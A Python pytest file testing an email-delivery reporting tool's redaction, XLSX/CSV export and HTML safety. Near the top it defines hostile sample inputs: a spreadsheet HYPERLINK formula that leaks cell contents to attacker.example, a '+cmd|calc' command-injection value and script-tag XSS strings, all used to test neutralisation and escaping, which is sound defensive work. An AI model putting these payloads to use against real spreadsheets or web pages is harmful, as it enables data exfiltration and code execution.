"""Stakeholder reports: content, filters, redaction, formula and HTML safety, XLSX, CLI, page."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
import subprocess
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from analysis import sources
from analysis.cli import main
from analysis.export import to_csv_bytes
from analysis.queries import Filters
from analysis.redact import EMAIL_RE, Redactor, redactor
from analysis.report import build_report, report_tables
from analysis.report_html import render_html
from analysis.report_pdf import chromium_path
from analysis.report_xlsx import workbook_bytes
from analysis.sources._base import ParseOptions
from analysis.store import Store
from tests.conftest import SAMPLE_TZ, SAMPLES
from tests.test_journeys_story import STORY_FILES

ESP_FILE = "esp/touchbasepro_activity.csv"
SHEETS = ["Summary", "By code", "By domain", "Failures", "Journeys", "Unmatched", "Suppressions"]
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
# A TouchBasePro export with hostile values: formulas, HTML, control characters, and an
# address inside the reply text.
HOSTILE_CSV = (
    '"Email Address","Name","Campaign","Event","Date","Bounce Type","Bounce Reason",'
    '"Message ID","SMTP Response","Subject"\r\n'
    f'"mallory.evil@hostile.example.com","@SUM(A1)","=1+2 {SCRIPT}","Bounced",'
    f'"2025-11-04 12:00:00","Hard","+cmd|calc","","550 5.1.1 <mallory.evil@hostile.example.com>:'
    f' Recipient address rejected {SCRIPT}","{FORMULA.replace(chr(34), chr(34) * 2)}"\r\n'
    '"-trent@hostile.example.com","Trent","=1+2 <script>alert(1)</script>","Bounced",'
    '"2025-11-04 12:00:01","Hard","Hard Bounce","",'
    '"550 5.7.1 Message rejected\x07 as spam <b>bold</b> @evil","\tTab subject"\r\n'
)
HOSTILE_CAMPAIGN = f"=1+2 {SCRIPT}"


def story_files() -> list[str]:
    """The ESP export plus every story trace file a parser of this build recognises."""
    out = [ESP_FILE]
    for rel in STORY_FILES[1:]:
        (ins,) = sources.inspect([SAMPLES / rel])
        if ins.best is not None and ins.best.side == "trace":
            out.append(rel)
    return out


@pytest.fixture(scope="module")
def ws_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace file: the sample story plus the hostile export (in tmp)."""
    tmp = tmp_path_factory.mktemp("report")
    hostile = tmp / "hostile_activity.csv"
    hostile.write_bytes(HOSTILE_CSV.encode("utf-8"))
    path = tmp / "ws.duckdb"
    store = Store(path)
    for rel in story_files():
        (r,) = store.load_files([SAMPLES / rel], opts=ParseOptions(tz=SAMPLE_TZ.get(rel, "UTC")))
        assert r.error is None, r.error
    (r,) = store.load_files([hostile], opts=ParseOptions(tz=SAMPLE_TZ[ESP_FILE]))
    assert r.error is None and r.format == "touchbasepro_csv" and r.rows_loaded == 2, r
    store.close()
    return path


@pytest.fixture
def store(ws_path: Path) -> Store:
    s = Store(ws_path)
    yield s
    s.close()


def addresses(store: Store) -> set[str]:
    """Every address the workspace holds: recipients on both sides and trace senders."""
    rows = store.df("SELECT recipient AS a FROM sends UNION SELECT recipient FROM trace_events "
                    "UNION SELECT sender FROM trace_events")
    return {a.lower() for a in rows["a"].dropna() if "@" in a}


def cells(xlsx: bytes) -> list:
    """Every cell of every sheet (openpyxl cells, not values)."""
    wb = load_workbook(io.BytesIO(xlsx))
    return [c for ws in wb for row in ws.iter_rows() for c in row]


class Tags(HTMLParser):
    """Collects start tags with attributes and the text nodes of an HTML document."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self._in: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self._in and self._in[-1] == tag:
            self._in.pop()

    def handle_data(self, data: str) -> None:
        if not self._in or self._in[-1] not in ("script", "style"):
            self.text.append(data)


def parse(html: str) -> Tags:
    p = Tags()
    p.feed(html)
    p.close()
    return p


# --- redaction ---------------------------------------------------------------------------

def test_redactor_mask_hash_and_keep() -> None:
    text = ("550 5.1.1 <Marco.Rossi@Pine.example.org>: rejected; id "
            "<2025.ab12@mta4.esp.example.net> from bnc-b2ab33fe@bounce.esp.example.net")
    mask = redactor("mask").with_keep(["2025.ab12@mta4.esp.example.net"])
    out = mask.text(text)
    assert out == ("550 5.1.1 <M***@pine.example.org>: rejected; id "
                   "<2025.ab12@mta4.esp.example.net> from b***@bounce.esp.example.net")
    assert mask.text(out) == out  # idempotent
    for odd in (".joe@y.example", "rcpt=joe@y.example", "'joe@y.example'", "--joe@y.example",
                "joe@localhost", "jöe@y.example"):
        assert "joe@" not in mask.text(odd) and "jöe@" not in mask.text(odd), odd
    h1, h2, other = redactor("hash", "k1"), redactor("hash", "k1"), redactor("hash", "k2")
    token = h1.address("marco.rossi@pine.example.org")
    assert re.fullmatch(r"h:[0-9a-f]{16}@pine\.example\.org", token)
    assert h2.address("MARCO.ROSSI@pine.example.org") == token  # case-insensitive, keyed
    assert other.address("marco.rossi@pine.example.org") != token
    assert h1.text(h1.text(text)) == h1.text(text)
    assert "marco" not in h1.text(text).lower()
    assert redactor("none").text(text) == text


def test_redactor_needs_a_key_for_hash(monkeypatch: pytest.MonkeyPatch) -> None:
    from analysis.errors import UsageError

    monkeypatch.delenv("DELIVERY_TRACE_REDACT_KEY", raising=False)
    with pytest.raises(UsageError, match="needs a key"):
        redactor("hash")
    with pytest.raises(UsageError):
        Redactor("scramble")
    monkeypatch.setenv("DELIVERY_TRACE_REDACT_KEY", "from-env")
    assert redactor("hash").address("a@b.c") == redactor("hash", "from-env").address("a@b.c")


# --- content -------------------------------------------------------------------------------

def test_report_content_on_the_story(store: Store) -> None:
    data = build_report(store.cursor(), Filters(campaigns=("November Newsletter",)))
    assert data.title == "Delivery report: November Newsletter"
    assert data.kpis["sent"] == 18 and data.kpis["rejected"] == 4
    s = data.summary
    assert s.headline.startswith("November Newsletter: 18 messages to 10 domains")
    assert "4 rejected at SMTP time" in s.paragraphs[0]
    assert any(c.startswith("Invalid address: 3 failures") for c in s.causes)
    # The first action is the invalid addresses' advice with the count to remove.
    assert s.actions[0].startswith("Invalid address (3 messages")
    assert "Remove 3 addresses" in s.actions[0]
    assert any("SPF/DKIM/DMARC" in a for a in s.actions)
    assert set(data.suppressions["recipient"]) == {
        "dev.patel@harbor.example.org", "julia.schmidt@fabrikam.example.net",
        "marco.rossi@pine.example.org"}
    assert data.match["exact"] + data.match["approximate"] + data.match["none"] == 18
    assert len(data.trace_unmatched) > 0 and len(data.esp_unmatched) == data.match["none"]
    html = render_html(data)
    text = " ".join(parse(html).text)
    for heading in ("Executive summary", "Key figures", "Top failing domains",
                    "Top failing codes", "What to do, by category", "Match report",
                    "ESP IDs found in no trace", "Trace messages with no ESP row",
                    "Appendix: failed messages"):
        assert heading in text
    assert "Filters:" in text and "Campaign is November Newsletter" in text
    assert html.count('class="chart"') == 8


def test_report_reflects_filters(store: Store) -> None:
    f = Filters(domains=("pine.example.org",), codes=(550,), since="2025-11-04",
                until="2025-11-04")
    data = build_report(store.cursor(), f)
    assert data.kpis["sent"] == 1
    assert set(data.journeys["recipient_domain"]) == {"pine.example.org"}
    # Trace messages with no ESP row: only those to the filtered domain, on the filtered day.
    assert all("@pine.example.org" in r for r in data.trace_unmatched["recipients"])
    oak = build_report(store.cursor(), Filters(domains=("oakridge.example.org",)))
    assert list(oak.trace_unmatched["recipients"]) == ["spamtrap@oakridge.example.org"]
    assert data.filters == ["Recipient domain is pine.example.org", "SMTP code is 550",
                            "Sent on or after 2025-11-04", "Sent on or before 2025-11-04"]
    text = " ".join(parse(render_html(data)).text)
    assert "Recipient domain is pine.example.org" in text and "SMTP code is 550" in text
    wb = load_workbook(io.BytesIO(workbook_bytes(data)))
    summary = [c for row in wb["Summary"].iter_rows(values_only=True) for c in row if c]
    assert any(str(v).startswith("Filters: Recipient domain is pine.example.org") for v in summary)
    assert [r[3] for r in wb["Journeys"].iter_rows(min_row=2, values_only=True)] == [
        "marco.rossi@pine.example.org"]


def test_empty_selection_still_writes_a_report(store: Store) -> None:
    data = build_report(store.cursor(), Filters(domains=("nowhere.example",)))
    assert data.empty and "no messages match" in data.summary.headline
    assert "no messages match" in render_html(data)
    assert load_workbook(io.BytesIO(workbook_bytes(data))).sheetnames == SHEETS


def test_row_table_is_the_whole_reports_table(store: Store) -> None:
    """A CSV download reads its one row table (row_table), the same rows build_report gives,
    with the same redaction."""
    from analysis.report import ROW_TABLES, row_table

    f = Filters(campaigns=("November Newsletter",))
    for mode in ("none", "mask", "hash"):
        whole = build_report(store.cursor(), f, redact=mode, key="k")
        for name in ROW_TABLES:
            got = row_table(store.cursor(), name, f, mode, "k")
            assert records(got) == records(getattr(whole, name)), (mode, name)
            assert len(got) > 0, (mode, name)


def test_ties_are_ordered_by_name(store: Store) -> None:
    """Equal counts come in name order, so the same data gives the same report every time
    (the summary names the first of the incidents as the domain with most failures)."""
    from analysis import queries

    con = store.cursor()
    orders = {queries.verdict_counts: (["journeys", "verdict"], [False, True]),
              queries.failures_by_code: (["smtp_code", "failures", "category"], [True, False, True]),
              queries.failures_by_domain: (["failures", "domain", "category"], [False, True, True]),
              queries.domain_incidents: (["failures", "domain"], [False, True]),
              queries.category_tree: (["failures", "category", "reason", "code"],
                                      [False, True, True, True])}
    for query, (cols, ascending) in orders.items():
        df = query(con, Filters())
        assert df[cols[0]].duplicated().any(), query.__name__  # ties to order
        assert records(df) == records(df.sort_values(cols, ascending=ascending)), query.__name__
    top = queries.domain_incidents(con, Filters())
    tied = top[top["failures"] == top["failures"].iloc[0]]["domain"]
    assert len(tied) > 1
    paragraphs = " ".join(build_report(con).summary.paragraphs)
    assert f"The domain with most failures is {min(tied)} " in paragraphs


def records(df: pd.DataFrame) -> list[dict[str, object]]:
    """The rows as dicts, every missing value as None (pandas gives NaN or None by dtype)."""
    return df.astype(object).where(df.notna(), None).to_dict("records")


def test_a_preview_holds_the_first_rows_and_counts_them_all(
        store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    """build_report(rows=N) keeps the first N rows of each row table and their full counts,
    and the HTML written from it is the HTML written from every row."""
    from analysis import report_html
    from analysis.report import ROW_TABLES

    now = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    for mode in ("none", "hash"):
        whole = build_report(store.cursor(), redact=mode, key="k", now=now)
        head = build_report(store.cursor(), redact=mode, key="k", now=now, rows=2)
        assert whole.complete and not head.complete
        for name in ("failures", "journeys", "trace_unmatched"):
            full = getattr(whole, name)
            assert len(full) > 2, name  # the story has more, so the limit bites
            assert head.total(name) == len(full), name
            assert records(getattr(head, name)) == records(full.head(2)), name
        # The unmatched ESP sends: the ones with a remote ID (those the HTML lists) first.
        ids = whole.esp_unmatched[whole.esp_unmatched["remote_id"].notna()]
        n = min(2, len(ids))
        assert n and records(head.esp_unmatched.head(n)) == records(ids.head(n))
        assert head.esp_unmatched["remote_id"].iloc[n:].isna().all()
        assert head.total("esp_unmatched") == len(whole.esp_unmatched) == whole.match["none"]
        assert head.total("suppressions") is None and head.suppressions.empty
        assert list(head.suppressions.columns) == list(whole.suppressions.columns)
        assert head.summary == whole.summary and head.domains == whole.domains == 11
        assert set(ROW_TABLES) == set(head.totals)
        # With the HTML's lists cut to 2 rows, both give the same document, notes included.
        monkeypatch.setattr(report_html, "APPENDIX_ROWS", 2)
        monkeypatch.setattr(report_html, "LIST_ROWS", 2)
        html = render_html(head)
        assert html == render_html(whole)
        assert f"Showing the first 2 of {len(whole.failures):,} rows" in html
        monkeypatch.undo()
    with pytest.raises(ValueError, match="every row"):
        workbook_bytes(head)


# --- XLSX ----------------------------------------------------------------------------------

def test_xlsx_sheets_types_and_layout(store: Store) -> None:
    data = build_report(store.cursor())
    wb = load_workbook(io.BytesIO(workbook_bytes(data)))
    assert wb.sheetnames == SHEETS
    summary = wb["Summary"]
    kinds = {type(ch).__name__ for ch in summary._charts}
    assert kinds == {"BarChart", "PieChart"}
    values = {r[0]: r[1:] for r in summary.iter_rows(values_only=True) if r[0]}
    assert values["Sent"][0] == data.kpis["sent"] == 20
    assert values["Rejected"][0] == data.kpis["rejected"]
    for name in SHEETS[1:]:
        ws = wb[name]
        assert ws.freeze_panes == "A2", name
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), name
        assert ws.column_dimensions["A"].width >= 8, name
    fails = wb["Failures"]
    header = [c.value for c in fails[1]]
    assert header[0] == "sent (UTC)" and "reply" in header
    rows = list(fails.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(data.failures) and fails.auto_filter.ref.endswith(str(len(rows) + 1))
    # Real Excel dates, naive UTC: M13 was sent at 11:00:21 Johannesburg = 09:00:21 UTC.
    marco = next(r for r in rows if r[2] == "marco.rossi@pine.example.org")
    assert marco[0] == dt.datetime(2025, 11, 4, 9, 0, 21)
    assert isinstance(marco[5], int) and marco[5] == 550
    assert fails.cell(row=2, column=1).number_format == "yyyy-mm-dd hh:mm:ss"
    assert fails.cell(row=2, column=1).data_type == "d"
    sup = [r[0] for r in wb["Suppressions"].iter_rows(min_row=2, values_only=True)]
    assert "marco.rossi@pine.example.org" in sup and "mallory.evil@hostile.example.com" in sup
    assert "'-trent@hostile.example.com" not in sup  # a spam rejection: keep the address
    unmatched = list(wb["Unmatched"].iter_rows(min_row=2, values_only=True))
    sides = {r[0] for r in unmatched}
    assert sides == {"ESP send, no trace", "trace message, no ESP row"}


@pytest.mark.skipif(shutil.which("soffice") is None, reason="no LibreOffice (libreoffice-calc)")
def test_xlsx_opens_in_libreoffice(store: Store, tmp_path: Path) -> None:
    xlsx = tmp_path / "r.xlsx"
    xlsx.write_bytes(workbook_bytes(build_report(store.cursor(), redact="mask")))
    proc = subprocess.run(
        ["soffice", "--headless", "--norestore", f"-env:UserInstallation={tmp_path.as_uri()}/lo",
         "--convert-to", "pdf", "--outdir", str(tmp_path), str(xlsx)],
        capture_output=True, timeout=300, check=False)
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "r.pdf").read_bytes().startswith(b"%PDF-")


def sheet_cells(xlsx: bytes) -> dict[tuple[str, str], tuple]:
    """Per (sheet, cell): the value, type, number format, bold and fill of every cell."""
    wb = load_workbook(io.BytesIO(xlsx))
    return {(ws.title, c.coordinate): (c.value, c.data_type, c.number_format, c.font.b,
                                       c.fill.fgColor.rgb)
            for ws in wb for row in ws.iter_rows() for c in row}


def differences(a: dict, b: dict) -> list[tuple]:
    return [(k, a.get(k), b.get(k)) for k in sorted(a.keys() | b.keys()) if a.get(k) != b.get(k)]


# Values at the edges of clean_text, neutralise and what openpyxl writes.
EDGE_TEXTS = ["\rabc", " lead", "trail ", "", "a\r\nb", "=1+2", "-x", "+x", "@x", "\t\ttab",
              "\x07bell\x1f", "x" * 40_000, "=" + "y" * 40_000, "<&>\"'", "_x000D_", "ünï ✓",
              "\n", "a\x0bb", None, "'quoted"]


def test_the_fast_workbook_writes_what_openpyxl_writes(
        store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    """workbook_bytes writes the table sheets' rows with DuckDB; read back, every cell of
    every sheet equals the workbook openpyxl writes cell by cell (build_workbook alone)."""
    from dataclasses import replace

    from analysis import report_xlsx
    from analysis.report_xlsx import build_workbook

    monkeypatch.setattr(report_xlsx, "SLICE", 7)  # rows cross several slices

    base = build_report(store.cursor(), redact="mask")
    n = len(EDGE_TEXTS)
    fail = base.failures.head(1)
    edge = pd.DataFrame({c: list(fail[c]) * n for c in fail.columns})
    edge["campaign"] = EDGE_TEXTS
    edge["failure_code"] = [550, None, 421] * (n // 3) + [250] * (n % 3)
    edge["permanent"] = pd.array([True, False, None, True] * (n // 4), dtype="boolean")
    edge["sent_at"] = pd.to_datetime(["2025-11-04 09:00:00.123456+00:00", None] * (n // 2),
                                     utc=True, format="ISO8601")
    inc = base.incidents.head(1)
    incidents = pd.DataFrame({c: list(inc[c]) * 4 for c in inc.columns}).assign(
        median_latency_s=[1.5, float("nan"), 3.0, 1e20], domain=["a", "b", "c", "d"])
    for data in (base, replace(base, failures=edge, incidents=incidents)):
        fast = workbook_bytes(data)
        buf = io.BytesIO()
        build_workbook(data).save(buf)
        assert not differences(sheet_cells(fast), sheet_cells(buf.getvalue()))
        wb = load_workbook(io.BytesIO(fast))
        assert wb["Failures"].freeze_panes == "A2"
        assert wb["Failures"].auto_filter.ref == f"A1:Q{len(data.failures) + 1}"
    # A column of mixed kinds is written by openpyxl, the rest by DuckDB: the same again.
    mixed = replace(base, failures=edge.assign(campaign=["x", 1, None, 2.5] * (n // 4)))
    buf = io.BytesIO()
    build_workbook(mixed).save(buf)
    assert not differences(sheet_cells(workbook_bytes(mixed)), sheet_cells(buf.getvalue()))


def test_a_sheet_cut_at_excels_row_limit_says_so(
        store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    from analysis import report_xlsx

    monkeypatch.setattr(report_xlsx, "MAX_ROWS", 4)
    data = build_report(store.cursor())
    wb = load_workbook(io.BytesIO(workbook_bytes(data)))
    assert wb["Journeys"].max_row == 5 and len(data.journeys) > 4
    summary = [r[0] for r in wb["Summary"].iter_rows(values_only=True) if r[0]]
    assert (f"The sheet Journeys holds the first 4 of its {len(data.journeys):,} rows (Excel's "
            "limit); the Report page's CSV downloads have every row.") in summary
    lengths = {"By code": len(data.codes), "Failures": len(data.failures),
               "Suppressions": len(data.suppressions)}
    assert min(lengths.values()) <= 4 < max(lengths.values())
    for name, n in lengths.items():
        note = f"The sheet {name} holds the first 4 of its {n:,} rows"
        assert any(str(v).startswith(note) for v in summary) == (n > 4), name


def test_xlsx_and_csv_neutralise_formulas(store: Store) -> None:
    data = build_report(store.cursor())
    all_cells = cells(workbook_bytes(data))
    assert all_cells
    assert not [c.coordinate for c in all_cells if c.data_type == "f"]
    texts = [c.value for c in all_cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not [t for t in texts if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", t)]
    assert f"'{HOSTILE_CAMPAIGN}" in texts  # the campaign name, kept as inert text
    assert "'-trent@hostile.example.com" in texts
    assert "'+cmd|calc" in texts  # the bounce reason (Journeys sheet)
    assert f"'{FORMULA}" in texts and "'\tTab subject" in texts  # subjects
    for name, df in report_tables(data).items():
        for row in csv.reader(io.StringIO(to_csv_bytes(df).decode("utf-8-sig"))):
            bad = [v for v in row if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
            assert not bad, (name, bad)
    fails = to_csv_bytes(report_tables(data)["failures"]).decode("utf-8-sig")
    assert f"'{HOSTILE_CAMPAIGN}" in fails


# --- HTML safety -----------------------------------------------------------------------------

def test_html_escapes_every_value_and_loads_nothing(store: Store) -> None:
    html = render_html(build_report(store.cursor()))
    doc = parse(html)
    scripts = [a for t, a in doc.tags if t == "script"]
    assert len(scripts) == 2 and not any("src" in a for a in scripts)  # plotly.js + draw calls
    assert html.count("plotly.js v") == 1  # the library embedded once
    assert "alert(1)" in " ".join(doc.text)  # the hostile reply shows as text ...
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert SCRIPT not in html  # ... and never as markup (nor inside the chart JSON)
    for tag, attrs in doc.tags:
        for name, value in attrs.items():
            assert not (value and re.match(r"\s*(https?:)?//", value)), (tag, name, value)
            assert not name.startswith("on"), (tag, name)
        assert tag not in ("img", "link", "iframe", "object", "embed", "base", "form"), tag
    styles = re.findall(r"<style>(.*?)</style>", html, re.S)
    assert styles and not [s for s in styles if "@import" in s or re.search(r"url\(", s)]
    csp = next(a["content"] for t, a in doc.tags
               if t == "meta" and a.get("http-equiv") == "Content-Security-Policy")
    assert "default-src 'none'" in csp and "connect-src 'none'" in csp
    assert "<b>bold</b>" not in html and "&lt;b&gt;bold&lt;/b&gt;" in html


# --- redaction everywhere ------------------------------------------------------------------

@pytest.mark.parametrize("mode", ["mask", "hash"])
def test_no_address_leaks_with_redaction(store: Store, mode: str) -> None:
    known = addresses(store)
    assert "marco.rossi@pine.example.org" in known and "mallory.evil@hostile.example.com" in known
    assert "bnc-b2ab33fe@bounce.esp.example.net" in known  # a VERP sender in a trace
    data = build_report(store.cursor(), redact=mode, key="shared-secret")
    html = render_html(data).lower()
    found = {m.group(0).lower() for m in EMAIL_RE.finditer(html)}
    assert not found & known, sorted(found & known)[:5]
    assert not [a for a in known if a in html]
    texts = [str(c.value).lower() for c in cells(workbook_bytes(data))
             if isinstance(c.value, str)]
    for t in texts:
        hits = {m.group(0) for m in EMAIL_RE.finditer(t)} & known
        assert not hits, (t, hits)
        assert not [a for a in known if a in t], t
    for name, df in report_tables(data).items():
        body = to_csv_bytes(df).decode("utf-8-sig").lower()
        assert not [a for a in known if a in body], name
    if mode == "hash":
        # Whoever holds the key computes the same token: rows can be matched across parties.
        token = Redactor("hash", "shared-secret").address("marco.rossi@pine.example.org")
        assert token in html and token in " ".join(texts)
        assert token in set(data.suppressions["recipient"])
    else:
        assert "m***@pine.example.org" in html
    # Message IDs are not addresses: they stay, so the other side's IT can look them up.
    assert "<20251104090014.29f318a58bdb@mta4.esp.example.net>" in texts  # julia's remote ID
    assert "20251104090031.0a6d4c1f77@mx.quarry.example.net" in html  # a trace with no ESP row


def test_redaction_reaches_chart_data_and_summary(store: Store) -> None:
    data = build_report(store.cursor(), Filters(domains=("hostile.example.com",)),
                        redact="mask")
    assert "mallory" not in data.summary.as_text().lower()
    from analysis.report_html import figure_json, figures

    for fig in figures(data).values():
        assert "mallory.evil@" not in figure_json(data, fig)


# --- command line --------------------------------------------------------------------------

def run_cli(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = main(args)
    out = capsys.readouterr()
    return code, out.out, out.err


def test_cli_writes_html_and_xlsx(ws_path: Path, tmp_path: Path,
                                  capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "r.html"
    code, stdout, _ = run_cli(["report", "--workspace", str(ws_path), "--out", str(out),
                               "--redact", "mask", "--campaign", "November Newsletter"], capsys)
    assert code == 0 and stdout.strip() == f"wrote {out}"
    assert "marco.rossi@" not in out.read_text(encoding="utf-8")
    xlsx = tmp_path / "sub" / "r.xlsx"
    code, stdout, _ = run_cli(["report", "--workspace", str(ws_path), "--out", str(xlsx),
                               "--domain", "pine.example.org", "--code", "550", "-q"], capsys)
    assert code == 0 and stdout == ""
    assert load_workbook(xlsx).sheetnames == SHEETS
    assert not list(xlsx.parent.glob(".r.xlsx.*"))  # the temporary file was renamed


def test_cli_refuses_hash_without_key(ws_path: Path, tmp_path: Path,
                                      capsys: pytest.CaptureFixture[str],
                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("DELIVERY_TRACE_REDACT_KEY", raising=False)
    out = tmp_path / "r.html"
    code, _, err = run_cli(["report", "--workspace", str(ws_path), "--out", str(out),
                            "--redact", "hash"], capsys)
    assert code == 2 and not out.exists()
    assert err.count("\n") == 1 and "needs a key" in err and "Traceback" not in err
    monkeypatch.setenv("DELIVERY_TRACE_REDACT_KEY", "k")
    code, _, _ = run_cli(["report", "--workspace", str(ws_path), "--out", str(out),
                          "--redact", "hash"], capsys)
    token = Redactor("hash", "k").address("marco.rossi@pine.example.org")
    assert code == 0 and token in out.read_text(encoding="utf-8")


def test_cli_bad_requests_exit_2_with_one_line(ws_path: Path, tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str],
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    base = ["report", "--workspace", str(ws_path)]
    code, _, err = run_cli(base + ["--out", str(tmp_path / "r.docx")], capsys)
    assert code == 2 and err.count("\n") == 1 and ".html, .xlsx, .pdf" in err
    code, _, err = run_cli(base + ["--out", str(tmp_path / "r.html"), "--since", "2025-13-40"],
                           capsys)
    assert code == 2 and err.count("\n") == 1 and "not a date" in err
    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "no-chromium"))
    code, _, err = run_cli(base + ["--out", str(tmp_path / "r.pdf")], capsys)
    assert code == 2 and err.count("\n") == 1 and not (tmp_path / "r.pdf").exists()
    assert "PDF needs Chromium" in err and "Save as PDF" in err


needs_chromium = pytest.mark.skipif(chromium_path() is None, reason="no chromium installed")


@needs_chromium
def test_cli_pdf_and_png_charts(ws_path: Path, tmp_path: Path,
                                capsys: pytest.CaptureFixture[str]) -> None:
    pdf = tmp_path / "r.pdf"
    code, _, err = run_cli(["report", "--workspace", str(ws_path), "--out", str(pdf),
                            "--redact", "mask"], capsys)
    assert code == 0, err
    body = pdf.read_bytes()
    assert body.startswith(b"%PDF-") and len(re.findall(rb"/Type\s*/Page\b", body)) >= 3
    charts = tmp_path / "charts.zip"
    code, _, err = run_cli(["report", "--workspace", str(ws_path), "--out", str(charts)],
                           capsys)
    assert code == 0, err
    with zipfile.ZipFile(charts) as z:
        names = set(z.namelist())
        assert {"funnel.png", "failures_by_code.png", "domain_heatmap.png"} <= names
        png = z.read("failures_by_code.png")
    assert png.startswith(b"\x89PNG") and len(png) > 5000


# --- the demo, as the "done when" ----------------------------------------------------

def test_demo_report_has_no_address_with_mask(tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    from analysis import demo

    path = tmp_path / "demo.duckdb"
    s = Store(path)
    demo.load_demo(s)
    known = addresses(s)
    s.close()
    assert len(known) > 2000
    for name in ("r.html", "r.xlsx"):
        code, _, err = run_cli(["report", "--workspace", str(path), "--out",
                                str(tmp_path / name), "--redact", "mask"], capsys)
        assert code == 0, err
    html = (tmp_path / "r.html").read_text(encoding="utf-8").lower()
    assert not {m.group(0) for m in EMAIL_RE.finditer(html)} & known
    texts = " ".join(str(c.value).lower() for c in cells((tmp_path / "r.xlsx").read_bytes())
                     if isinstance(c.value, str))
    assert not {m.group(0) for m in EMAIL_RE.finditer(texts)} & known
    assert "what to do first" in html


# --- the Report page -----------------------------------------------------------------------

def test_report_page(ws_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("DELIVERY_TRACE_WORKSPACE", str(ws_path))
    app = str(Path(__file__).resolve().parents[1] / "app.py")
    at = AppTest.from_file(app, default_timeout=60).run()
    at.switch_page("pages/report.py").run()
    assert not at.exception, at.exception
    shown = " ".join(m.value for m in at.markdown)
    assert "What to do first" in shown and "Invalid address" in shown
    assert SCRIPT not in shown  # hostile campaign names are shown literally, not as markup
    assert len(at.get("plotly_chart")) == 8
    labels = {b.proto.label for b in at.get("download_button")}
    assert {"HTML report", "Excel workbook"} <= labels
    at.radio(key="report_redact").set_value("mask").run()
    assert not at.exception
    shown = " ".join(m.value for m in at.markdown)
    assert "marco.rossi@" not in shown
    at.radio(key="report_redact").set_value("hash").run()
    assert any("Enter a key" in i.value for i in at.info)
    at.multiselect(key="report_domains").set_value(["pine.example.org"])
    at.text_input(key="report_key").set_value("k").run()
    assert not at.exception
    assert any("Recipient domain is pine" in c.value.replace("\\", "") for c in at.caption)
